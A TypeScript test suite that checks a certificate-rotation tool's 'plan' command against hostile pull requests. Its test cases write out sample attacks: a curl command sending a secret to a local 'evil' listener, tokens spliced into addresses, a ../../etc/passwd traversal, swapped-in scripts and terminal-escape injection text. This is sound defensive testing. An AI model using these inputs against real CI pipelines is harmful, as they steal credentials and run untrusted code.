import "../world/in-process.ts";
import { existsSync } from "node:fs";
import { mkdir, mkdtemp, rm, symlink, writeFile } from "node:fs/promises";
import { createServer, type Server } from "node:net";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { afterAll, beforeAll, beforeEach, describe, expect, it } from "vitest";
import type { Plan } from "../../src/rotation/plan.ts";
import { type RunningSandbox, startSandbox } from "../../src/sandbox/start-teleport.ts";
import { runHere } from "../world/command-line.ts";
import { flat } from "../world/flat.ts";
import { type Ran, Repository } from "../world/repository.ts";

/** A server that counts who dials it, and answers nobody. */
class Counting {
  dialled = 0;
  readonly #server: Server;

  private constructor(server: Server) {
    this.#server = server;
  }

  static async start(): Promise<Counting> {
    const server = createServer();
    const counting = new Counting(server);
    server.on("connection", (socket) => {
      counting.dialled += 1;
      socket.destroy();
    });
    await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
    return counting;
  }

  get address(): string {
    const address = this.#server.address();
    if (address === null || typeof address === "string") throw new Error("it listens on no port");
    return `127.0.0.1:${address.port}`;
  }

  close(): void {
    this.#server.close();
  }
}

const SECRET = "planted-value-of-the-environment";
const ENV = { ...process.env, GITHUB_TOKEN: SECRET, TELEPORT_SECRET: SECRET };

let repository: Repository;
let sandbox: RunningSandbox;
let known: Counting;
let evil: Counting;
let outside: string;
/** What `main` asks for, before any pull request. */
let approved: Plan;

/** Whoever runs it leaves a mark. */
const mark = () => join(outside, "ran");
/** As a runner would know it: from wherever it is started. */
const brought = () => join(repository.folder, "tools", "evil.sh");
const script = () => `#!/bin/sh\ntouch ${mark()}\n`;

async function capstan(...args: readonly string[]): Promise<Ran> {
  return await runHere(args, { cwd: repository.folder, env: ENV });
}

const CLUSTER_FILE = "clusters/acme.cluster/cluster.yaml";

beforeAll(async () => {
  outside = await mkdtemp(join(tmpdir(), "capstan-outside-"));
  known = await Counting.start();
  evil = await Counting.start();
  repository = await Repository.create();
  const dir = join(repository.folder, ".capstan", "sandbox");
  sandbox = await startSandbox({ dir, speed: 200, nodes: 1 });
  await repository.must("init");
  await inHost((text) =>
    text
      .replace(/^ *trust_consumers:.*\n/m, "")
      .replace(
        /^spec:\n/m,
        `$&  trust_consumers:\n    - { kind: tls, name: queue, address: "${known.address}" }\n`,
      ),
  );
  await repository.commit("what is live");
  approved = JSON.parse((await capstan("plan", "--format", "json")).stdout) as Plan;
});

afterAll(async () => {
  await sandbox.stop();
  for (const server of [known, evil]) server.close();
  await rm(repository.folder, { recursive: true, force: true });
  await rm(outside, { recursive: true, force: true });
});

beforeEach(async () => {
  await repository.git("checkout", "--quiet", "--force", "-B", "pull", "main");
  await repository.git("clean", "--quiet", "-fd");
  evil.dialled = 0;
});

type Edit = (text: string) => string;

const inCluster = (edit: Edit) => () => repository.edit(CLUSTER_FILE, edit);
/** Another value of a field of the connection, which is added where it is not there. */
const connection = (field: string, value: string) =>
  inCluster((text) =>
    new RegExp(`^    ${field}:`, "m").test(text)
      ? text.replace(new RegExp(`^    ${field}: .*`, "m"), `    ${field}: ${value}`)
      : text.replace(/^ {2}teleport:.*/m, `$&\n    ${field}: ${value}`),
  );
const spec = (text: string) => inCluster((before) => before.replace(/^spec:.*/m, `$&\n${text}`));
const file =
  (path: string, text: () => string, mode = 0o644) =>
  async () => {
    await mkdir(join(repository.folder, path, ".."), { recursive: true });
    await writeFile(join(repository.folder, path), text(), { mode });
  };
const tool = () => file("tools/evil.sh", script, 0o755)();
/** The document of the host CA, among those of the others. */
const inHost = (edit: Edit) =>
  repository.edit("clusters/acme.cluster/authorities.yaml", (text) =>
    text
      .split(/^---\n/m)
      .map((document) => (/^sub_kind: host$/m.test(document) ? edit(document) : document))
      .join("---\n"),
  );
const consumer = (text: () => string) => () =>
  inHost((before) => before.replace(/^ {2}trust_consumers:\n/m, `$&    - ${text()}\n`));
const newCluster = (teleport: () => string) =>
  file(
    "new.yaml",
    () =>
      `kind: cluster\nversion: v1\nmetadata: { name: new.cluster }\nspec: { platform: teleport, teleport: ${teleport()} }\n`,
  );

/** What the plan has to say: first of all, among what else is changed, or of the cluster. */
type Expected =
  | { readonly first: RegExp }
  | { readonly changes: RegExp }
  | { readonly problem: RegExp }
  | { readonly error: RegExp };

type Story = readonly [doing: () => Promise<unknown>, expected: Expected];

const STORIES: Readonly<Record<string, Story>> = {
  "another tctl, a script that it brings": [
    async () => {
      await tool();
      await connection("tctl", `[${brought()}]`)();
    },
    { first: /^acme\.cluster runs another executable: \/\S+\/tools\/evil\.sh, not / },
  ],
  "a shell before the tctl": [
    async () => {
      await tool();
      await connection("tctl", `[sh, -c, "${brought()}"]`)();
    },
    { first: /runs another executable: sh -c \/\S+\/tools\/evil\.sh/ },
  ],
  "another auth server": [
    () => connection("auth_server", evil.address)(),
    { first: /^acme\.cluster dials another address: 127/ },
  ],
  "a token in an address": [
    () => connection("auth_server", `"$${`{GITHUB_TOKEN}`}.example.net:443"`)(),
    { error: /variable GITHUB_TOKEN, which/ },
  ],
  "a value in an address, by a name that is allowed": [
    () => connection("auth_server", `"$${`{TELEPORT_SECRET}`}.example.net:443"`)(),
    { first: /dials another address: \$\{TELEPORT_SECRET\}\.example\.net:443/ },
  ],
  "a value in an executable's arguments": [
    () => connection("tctl", `[curl, "http://${evil.address}/$${`{TELEPORT_SECRET}`}"]`)(),
    { first: /runs another executable: curl http:.*\$\{TELEPORT_SECRET\}/ },
  ],
  "another identity": [
    () => connection("identity_file", "/etc/hostname")(),
    { first: /reads another file or context: \/etc\/hostname/ },
  ],
  "a signer": [() => spec(`  signer: { command: [${brought()}] }`)(), { first: /spec\.signer\.command/ }],
  "a backup command": [
    () => spec(`  backup: { command: [${brought()}] }`)(),
    { first: /runs another executable: \/\S+\/tools\/evil\.sh \(spec\.backup\.command\)/ },
  ],
  "somebody else for whom keys are sealed": [
    () =>
      spec(`  backup: { recipients: [age1ql3z7hjy54pw3hyww5ayyfg7zqgvc7w3j2elw8zmrj2kg5sfn9aqmcac8p] }`)(),
    { first: /seals keys for somebody else: age1ql3/ },
  ],
  "another platform": [
    async () => {
      await tool();
      await repository.git("rm", "--quiet", "clusters/acme.cluster/authorities.yaml");
      await repository.edit(CLUSTER_FILE, (text) =>
        text.replace(
          /^spec:[\s\S]*$/m,
          `spec:\n  platform: talos\n  talos:\n    talosctl: [${brought()}]\n    talosconfig: /etc/hostname\n    control_planes: ["127.0.0.1"]\n    clients: { talosconfig: .capstan/clients/x }\n`,
        ),
      );
    },
    { problem: /it runs \/\S+\/tools\/evil\.sh \(spec\.talos\.talosctl\)/ },
  ],
  "a cluster more": [
    async () => {
      await tool();
      await newCluster(() => `{ tctl: [${brought()}], auth_server: "${evil.address}" }`)();
    },
    { problem: /it runs \/\S+\/tools\/evil\.sh \(spec\.teleport\.tctl\); it dials 127/ },
  ],
  "a cluster more, and the lists that would allow it": [
    async () => {
      await tool();
      await newCluster(() => `{ tctl: [${brought()}], auth_server: "${evil.address}" }`)();
      await file(
        "repository.yaml",
        () =>
          `kind: repository\nversion: v1\nmetadata: { name: pki }\nspec: { executables: [[${brought()}]], addresses: ["${evil.address}"] }\n`,
      )();
    },
    { problem: /it runs \/\S+\/tools\/evil\.sh/ },
  ],
  "a peer that is asked": [
    async () => {
      await tool();
      await newCluster(() => `{ tctl: [${brought()}] }`)();
      await spec("  peers: [new.cluster]")();
    },
    { problem: /new\.cluster|it runs \/\S+\/tools\/evil\.sh/ },
  ],
  "a consumer more": [
    () => consumer(() => `{ kind: tls, name: evil, address: "${evil.address}" }`)(),
    { first: /consumer evil dials another address: 127/ },
  ],
  "a key set more": [
    () => consumer(() => `{ kind: https-jwks, name: evil, url: "https://${evil.address}/x" }`)(),
    { first: /consumer evil dials another address: https:/ },
  ],
  "an SSH server more": [
    () => consumer(() => `{ kind: openssh, name: evil, address: "${evil.address}" }`)(),
    { first: /consumer evil dials another address/ },
  ],
  "another address of a consumer": [
    () => inHost((text) => text.replace(known.address, evil.address)),
    { first: /consumer queue dials another address: 127/ },
  ],
  "a consumer that is dropped": [
    () => inHost((text) => text.replace(/^.*trust_consumers:\n.*name: queue.*\n/m, "")),
    { changes: /trust_consumers\[queue\] is removed/ },
  ],
  "a file from outside": [
    () => consumer(() => "{ kind: file, name: passwd, path: ../../../../../../etc/passwd }")(),
    { error: /path/ },
  ],
  "a waiver": [
    () =>
      inHost((text) =>
        text.replace(
          /^spec:\n/m,
          "$&  waive: [{ guard: overrides, subject: authority/host, reason: trust me, expires: 2099-01-01 }]\n",
        ),
      ),
    { changes: /waives overrides for authority\/host until .*2099.*trust me/ },
  ],
  "a policy without care": [
    inCluster((text) => text.replace(/^ {4}on_failure: .*/m, "    on_failure: halt")),
    { changes: /policy\.on_failure was rollback, and is halt/ },
  ],
  "another remote for the record": [
    file(
      "repository.yaml",
      () =>
        "kind: repository\nversion: v1\nmetadata: { name: pki }\nspec: { record: refs, remote: tools/evil.git }\n",
    ),
    { first: /^the repository dials another address: tools\/evil\.git/ },
  ],
  "hostile text": [
    consumer(
      () => '{ kind: manual, name: x, instructions: "\\e[2J\\n::set-output name=a::b ![](x) \\u202e" }',
    ),
    { changes: /trust_consumers\[x\] is added/ },
  ],
  "a resource that is a link out of the repository": [
    () => symlink(mark(), join(repository.folder, "linked.yaml")),
    { error: /linked\.yaml/ },
  ],
};

describe("an attacker's pull request runs nothing, dials nobody, and shows no value", () => {
  it.each(Object.entries(STORIES))("%s", async (_, [doing, expected]) => {
    await doing();
    await repository.git("add", "-A", "--force", "--", ".", ":!.capstan");
    await repository.git("commit", "--quiet", "--message", "please merge");
    const json = await capstan("plan", "--base", "main", "--format", "json");
    const text = await capstan("plan", "--base", "main");
    const markdown = await capstan("plan", "--base", "main", "--format", "markdown");
    const all = [json, text, markdown].map(({ stdout, stderr }) => stdout + stderr).join("\n");
    expect(existsSync(mark())).toBe(false);
    expect(evil.dialled).toBe(0);
    expect(all).not.toContain(SECRET);
    // biome-ignore lint/suspicious/noControlCharactersInRegex: they are what must not be there
    expect(text.stdout + text.stderr + markdown.stdout).not.toMatch(/[\u001b\u202e]/);
    if ("error" in expected) {
      expect(json.exit).toBe(1);
      expect(flat(json.stderr)).toMatch(expected.error);
      return;
    }
    if (json.stdout === "") throw new Error(json.stderr);
    const plan = JSON.parse(json.stdout) as Plan;
    const { connections = [], changes = [] } = plan.base ?? {};
    if ("problem" in expected) {
      expect(json.exit).toBe(3);
      expect(plan.outcome).toBe("incomplete");
      const unread = plan.clusters.filter(({ problem }) => problem !== null);
      expect(unread).toMatchObject([
        {
          fingerprint: null,
          problem: { code: "not-trusted-yet", message: expect.stringMatching(expected.problem) },
        },
      ]);
    }
    if ("first" in expected) {
      expect(connections.map(({ message }) => message)).toEqual(
        expect.arrayContaining([expect.stringMatching(expected.first)]),
      );
      // Before anything else in every format.
      const [, sentence = ""] = /! ([\s\S]*?)\n(?= {2}[!-]|\n)/.exec(text.stdout) ?? [];
      expect(sentence).not.toBe("");
      expect(text.stdout.indexOf("! ")).toBeLessThan(text.stdout.indexOf("(teleport)"));
      expect(markdown.stdout.indexOf("What runs and what is reached")).toBeGreaterThan(0);
      expect(markdown.stdout.indexOf("What runs and what is reached")).toBeLessThan(
        markdown.stdout.indexOf("**Next:**"),
      );
    }
    if ("changes" in expected) expect(changes.join("\n")).toMatch(expected.changes);
    // What was approved before is not this.
    const was = approved.clusters.find(({ name }) => name === "acme.cluster")?.fingerprint;
    const is = plan.clusters.find(({ name }) => name === "acme.cluster")?.fingerprint;
    if (!("problem" in expected)) expect(is).not.toBe(was);
    const other = await capstan("plan", "--base", "main", "--expect", approved.fingerprint);
    expect(other.exit).toBe(5);
  });
});

describe("what the base says is what is used", () => {
  it("the consumer is asked where the base has it, and the cluster is planned", async () => {
    await connection("tctl", `[${brought()}]`)();
    await repository.commit("please merge");
    const dialled = known.dialled;
    const { exit, stdout } = await capstan("plan", "--base", "main", "--format", "json");
    expect(exit).toBe(0);
    expect((JSON.parse(stdout) as Plan).clusters).toMatchObject([
      { name: "acme.cluster", problem: null, fingerprint: expect.stringMatching(/^sha256:/) },
    ]);
    expect(known.dialled).toBeGreaterThanOrEqual(dialled);
  });

  it("a person may trust the head, and says so", async () => {
    await tool();
    await connection("tctl", `[${brought()}]`)();
    await repository.commit("mine");
    await capstan("plan", "--base", "main", "--trust-head");
    expect(existsSync(mark())).toBe(true);
    await rm(mark());
    const alone = await capstan("plan", "--trust-head");
    expect([alone.exit, alone.stderr]).toEqual([1, expect.stringContaining("--trust-head needs --base")]);
  });
});

/** Nothing that is live: what would be read is a script that leaves a mark. */
describe("what may run and be dialled before a merge", () => {
  const cluster = (name: string, teleport: string) =>
    `kind: cluster\nversion: v1\nmetadata: { name: ${name} }\nspec: { platform: teleport, teleport: ${teleport} }\n`;
  const repositoryOf = (spec: string) =>
    `kind: repository\nversion: v1\nmetadata: { name: pki }\nspec: ${spec}\n`;
  const write = (files: Readonly<Record<string, string>>) =>
    Promise.all(Object.entries(files).map(([path, text]) => file(path, () => text, 0o755)()));

  /** An empty branch of its own, with these files; then a pull request with those. */
  async function between(
    base: readonly Readonly<Record<string, string>>[],
    head: Readonly<Record<string, string>>,
    from = "base",
  ): Promise<{ readonly exit: number; readonly plan: Plan | null; readonly stderr: string }> {
    await repository.git("checkout", "--quiet", "--orphan", "base");
    await repository.git("rm", "-r", "--quiet", "--force", ".");
    await repository.git("commit", "--quiet", "--allow-empty", "--message", "empty");
    for (const files of base) {
      await write(files);
      await repository.commit("base");
    }
    await repository.git("checkout", "--quiet", "-B", "pull", from);
    await write(head);
    await repository.commit("please merge");
    const { exit, stdout, stderr } = await capstan("plan", "--base", "base", "--format", "json");
    return { exit, plan: stdout === "" ? null : (JSON.parse(stdout) as Plan), stderr };
  }

  beforeEach(async () => {
    await repository.git("branch", "-D", "base").catch(() => "");
    await rm(mark(), { force: true });
  });

  const problems = (plan: Plan | null) => plan?.clusters.map(({ name, problem }) => [name, problem?.code]);
  const newResource = () =>
    cluster("new.cluster", `{ tctl: [${brought()}], auth_server: "new.example:443" }`);

  it("nothing of the first pull request of all", async () => {
    const { exit, plan } = await between([], { "new.yaml": newResource(), "tools/evil.sh": script() });
    expect([exit, plan?.outcome, problems(plan)]).toEqual([
      3,
      "incomplete",
      [["new.cluster", "not-trusted-yet"]],
    ]);
    expect(existsSync(mark())).toBe(false);
  });

  it.each([
    [
      "both are listed",
      true,
      (tool: string) => `{ executables: [[${tool}]], addresses: ["new.example:443"] }`,
    ],
    ["only what runs", false, (tool: string) => `{ executables: [[${tool}]] }`],
    ["only the address", false, () => `{ addresses: ["new.example:443"] }`],
    [
      "the command line has a word more",
      false,
      (tool: string) => `{ executables: [[${tool}, -v]], addresses: ["new.example:443"] }`,
    ],
    [
      "the port is another",
      false,
      (tool: string) => `{ executables: [[${tool}]], addresses: ["new.example:3025"] }`,
    ],
  ])("a new cluster, as the base lists it: %s", async (_, runs, spec) => {
    const tool = join(outside, "tctl");
    await writeFile(tool, script(), { mode: 0o755 });
    const head = {
      "new.yaml": cluster("new.cluster", `{ tctl: [${tool}], auth_server: "new.example:443" }`),
    };
    const { exit, plan } = await between([{ "repository.yaml": repositoryOf(spec(tool)) }], head);
    expect(existsSync(mark())).toBe(runs);
    if (runs) expect(exit).toBe(1);
    else expect([exit, problems(plan)]).toEqual([3, [["new.cluster", "not-trusted-yet"]]]);
  });

  it("not by a list that is gone by now, from whatever commit the pull request left", async () => {
    const listed = {
      "repository.yaml": repositoryOf(`{ executables: [[${brought()}]], addresses: ["new.example:443"] }`),
    };
    const { exit, plan } = await between(
      [listed, { "repository.yaml": repositoryOf("{}") }],
      { "new.yaml": newResource() },
      "base^",
    );
    expect([exit, problems(plan)]).toEqual([3, [["new.cluster", "not-trusted-yet"]]]);
    expect(existsSync(mark())).toBe(false);
  });

  it.each([
    ["the script itself", { "tools/evil.sh": "#!/bin/sh\nexit 1 # other\n" }],
    ["what it may read", { "tools/lib.sh": "touch ran\n" }],
  ])("not a script of the repository, when the pull request changes %s", async (_, head) => {
    const base = {
      "acme.yaml": cluster("acme.cluster", `{ tctl: [${brought()}] }`),
      "tools/evil.sh": script(),
    };
    const { exit, plan } = await between([base], head);
    expect([exit, problems(plan)]).toEqual([3, [["acme.cluster", "not-trusted-yet"]]]);
    expect(existsSync(mark())).toBe(false);
  });

  it("what is wrong with the certificates of a new cluster is told all the same", async () => {
    const override = `kind: cert_authority_override\nsub_kind: db_client\nversion: v1\nmetadata: { name: new.cluster }\nspec: { certificate_overrides: [{ certificate: "no PEM at all" }] }\n`;
    const { exit, plan, stderr } = await between([], {
      "new.yaml": newResource(),
      "override.yaml": override,
    });
    expect(exit, stderr).toBe(3);
    expect(plan?.base?.findings).toEqual([
      expect.objectContaining({ severity: "error", subject: "override/new.cluster/db_client" }),
    ]);
  });

  it("one cluster that cannot be read leaves the others alone, and is named", async () => {
    const two = {
      "a.yaml": cluster("a.cluster", "{ tctl: [/nowhere/tctl] }"),
      "b.yaml": cluster("b.cluster", "{ tctl: [/nowhere/tctl] }"),
    };
    const { exit, plan } = await between([two], { "README.md": "x" });
    expect([exit, problems(plan)]).toEqual([
      1,
      [
        ["a.cluster", "executable"],
        ["b.cluster", "executable"],
      ],
    ]);
  });
});
